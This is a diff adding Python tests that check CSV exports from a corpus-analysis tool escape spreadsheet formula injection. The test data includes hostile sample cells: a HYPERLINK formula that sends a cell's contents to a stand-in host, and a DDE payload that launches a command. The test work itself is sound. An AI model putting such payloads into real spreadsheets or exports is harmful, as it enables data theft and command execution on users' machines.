@@ -480,6 +480,58 @@ def test_csv_tables_carry_a_byte_order_mark_and_read_back_unchanged(tmp_path, ar
     assert read_audit(write_csv(tmp_path / "audit.csv", audit_table(found))) == found
 
 
+FORMULAS = ['=HYPERLINK("http://x.example/?t="&A2,"Open")', "+SUM(1+1)*cmd|' /C calc'!A0", "-12.5%", "@SUM(A1)",
+            "\t=1+1", "'=already quoted", "'plain"]
+
+
+def cells_a_spreadsheet_would_evaluate(path):
+    """The cells of a CSV file that begin as a formula does (OWASP: = + - @ tab CR) and are not a number."""
+    import csv
+
+    def number(cell):
+        try:
+            float(cell)
+        except ValueError:
+            return False
+        return True
+
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        return [cell for row in csv.reader(file) for cell in row if cell and cell[0] in "=+-@\t\r" and not number(cell)]
+
+
+def test_csv_cells_that_look_like_formulas_are_text_and_read_back_unchanged(tmp_path):
+    from analysis.files import restored
+
+    table = pd.DataFrame({"text": [*FORMULAS, "平常", ""], "value": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, -8.0, 9.0],
+                          "count": [-1, 2, 3, 4, 5, 6, 7, 8, 9]})
+    path = write_csv(tmp_path / "t.csv", table)
+    assert cells_a_spreadsheet_would_evaluate(path) == []
+    lines = path.read_text(encoding="utf-8-sig").splitlines()
+    assert lines[3] == "'-12.5%,-3.0,3", "the text is quoted; numbers stay numbers"
+    again = restored(pd.read_csv(path, keep_default_na=False))
+    pd.testing.assert_frame_equal(again, table)
+
+
+def test_no_table_of_a_corpus_run_holds_a_formula(tmp_path):
+    from analysis.corpus.analysing import run_corpus
+    from analysis.corpus.study import read_corpus
+
+    folder = tmp_path / "c"
+    folder.mkdir()
+    title = FORMULAS[0]
+    write_article(folder / "=cmd.txt", title, [f"{FORMULAS[1]}福永街道註冊人數達8,200人。", *XINAN["paragraphs"][1:]])
+    out = tmp_path / "out"
+    assert run_corpus(folder, out, jobs=1, quiet=True) == 0
+    tables = sorted(out.glob("*.csv"))
+    assert len(tables) >= 9
+    for path in tables:
+        assert cells_a_spreadsheet_would_evaluate(path) == [], path.name
+    assert "'=cmd.txt" in (out / "articles.csv").read_text(encoding="utf-8")
+    articles = read_corpus(out)["articles"]
+    assert articles[["article", "title"]].values.tolist() == [["=cmd.txt", title]]
+    assert (out / "document_term_documents.txt").read_text(encoding="utf-8") == "=cmd.txt\n"
+
+
 # --- `make figures` is incremental too ---
 
 
